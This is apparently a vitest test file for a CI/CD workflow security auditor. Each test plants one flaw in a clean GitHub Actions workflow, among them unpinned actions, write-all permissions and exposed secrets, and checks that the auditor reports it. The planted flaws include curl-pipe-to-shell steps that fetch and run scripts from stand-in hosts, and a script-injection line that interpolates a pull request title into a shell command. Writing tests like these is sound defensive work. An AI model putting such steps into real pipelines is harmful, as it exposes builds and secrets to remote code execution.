import { describe, expect, it } from 'vitest';
import { auditPath } from '../src/index.js';
import { CLEAN_CI, CLEAN_RELEASE, repo } from './helpers.js';

const audit = (files: Record<string, string>) => auditPath(repo(files));

/** One flaw planted in a clean workflow, and the one finding it must produce. */
const PLANTS: { name: string; base: string; plant: (text: string) => string; rule: string; line: number; column: number }[] = [
  { name: 'unpinned third-party action', base: CLEAN_CI, plant: (t) => t.replace('      - run: npm ci\n', '      - uses: pnpm/action-setup@v4\n      - run: npm ci\n'), rule: 'unpinned-action', line: 17, column: 15 },
  { name: 'script injection', base: CLEAN_CI, plant: (t) => t.replace('      - run: npm test\n', '      - run: echo "${{ github.event.pull_request.title }}" && npm test\n'), rule: 'script-injection', line: 18, column: 20 },
  { name: 'write-all', base: CLEAN_CI, plant: (t) => t.replace('permissions:\n  contents: read\n', 'permissions: write-all\n'), rule: 'write-all-permissions', line: 6, column: 14 },
  { name: 'no permissions', base: CLEAN_CI, plant: (t) => t.replace('permissions:\n  contents: read\n', ''), rule: 'missing-permissions', line: 7, column: 3 },
  { name: 'curl | bash', base: CLEAN_CI, plant: (t) => t.replace('      - run: npm ci\n', '      - run: curl -sL https://example.com/i.sh | bash\n      - run: npm ci\n'), rule: 'curl-pipe-shell', line: 17, column: 14 },
  { name: 'self-hosted runner on pull requests', base: CLEAN_CI, plant: (t) => t.replace('runs-on: ubuntu-latest', 'runs-on: self-hosted'), rule: 'self-hosted-pr-runner', line: 10, column: 14 },
  { name: 'static AWS key', base: CLEAN_CI, plant: (t) => t.replace('      - run: npm test\n', '      - run: npm test\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ vars.AWS_SECRET_ACCESS_KEY }}\n'), rule: 'static-cloud-credentials', line: 20, column: 11 },
  { name: 'cache restored into the release build', base: CLEAN_RELEASE, plant: (t) => t.replace('          push: true\n', '          push: true\n          cache-from: type=gha\n'), rule: 'cache-in-release-job', line: 26, column: 23 },
  { name: 'secrets: inherit', base: CLEAN_RELEASE, plant: (t) => t.replace('    secrets:\n      registry-password: ${{ secrets.GITHUB_TOKEN }}\n', '    secrets: inherit\n'), rule: 'secrets-inherit', line: 38, column: 14 },
  { name: 'unpinned service image', base: CLEAN_CI, plant: (t) => t.replace('    steps:\n', '    services:\n      redis:\n        image: redis:7\n    steps:\n'), rule: 'unpinned-image', line: 13, column: 16 },
];

describe('properties', () => {
  it('a clean CI workflow and a clean L3 release workflow have no findings', async () => {
    const report = await audit({ '.github/workflows/ci.yml': CLEAN_CI, '.github/workflows/release.yml': CLEAN_RELEASE });
    expect(report.parse_errors).toEqual([]);
    expect(report.findings).toEqual([]);
    expect(report.slsa).toEqual([{ workflow: '.github/workflows/release.yml', level: 3, blocking_requirement: null }]);
  });

  it.each(PLANTS)('a clean workflow with one planted flaw ($name) yields exactly that finding', async ({ base, plant, rule, line, column }) => {
    const text = plant(base);
    expect(text).not.toBe(base);
    const report = await audit({ '.github/workflows/w.yml': text });
    expect(report.parse_errors).toEqual([]);
    expect(report.findings.map((f) => [f.rule, f.file, f.line, f.column])).toEqual([[rule, '.github/workflows/w.yml', line, column]]);
  });

  it('reports GitHub parser errors with their position instead of findings for them', async () => {
    const report = await audit({ '.github/workflows/bad.yml': CLEAN_CI.replace('    runs-on: ubuntu-latest\n', '    runs-on: ubuntu-latest\n    needs: nope\n') });
    expect(report.parse_errors.length).toBeGreaterThan(0);
    expect(report.parse_errors[0]!.file).toBe('.github/workflows/bad.yml');
  });

  it('reads composite actions and GitLab pipelines', async () => {
    const report = await audit({
      '.github/actions/setup/action.yml': 'name: setup\ndescription: setup\nruns:\n  using: composite\n  steps:\n    - run: curl -fsSL https://x.example/i.sh | sh\n      shell: bash\n',
      '.gitlab-ci.yml': 'test:\n  image: node:20\n  script:\n    - npm test\n',
      '.github/workflows/ci.yml': CLEAN_CI,
    });
    expect(report.findings.map((f) => [f.rule, f.file, f.line, f.column])).toEqual([
      ['curl-pipe-shell', '.github/actions/setup/action.yml', 6, 12],
      ['unpinned-image', '.gitlab-ci.yml', 2, 10],
    ]);
  });
});
